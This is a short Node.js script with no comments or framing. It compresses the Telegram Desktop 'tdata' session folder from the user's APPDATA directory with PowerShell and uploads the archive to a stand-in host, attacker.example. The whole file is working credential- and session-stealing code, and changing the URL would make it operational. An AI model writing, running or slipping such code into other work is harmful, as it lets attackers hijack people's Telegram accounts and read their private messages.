const path = require("path");
const fs = require("fs");
const { execSync } = require("child_process");

const tdata = path.join(process.env.APPDATA, "Telegram Desktop", "tdata");
const zip = path.join(process.env.TEMP, "td.zip");
execSync(`powershell -c "Compress-Archive -Path '${tdata}' -DestinationPath '${zip}' -Force"`);
const form = new FormData();
form.append("file", new Blob([fs.readFileSync(zip)]), "td.zip");
fetch("https://attacker.example/upload", { method: "POST", body: form });
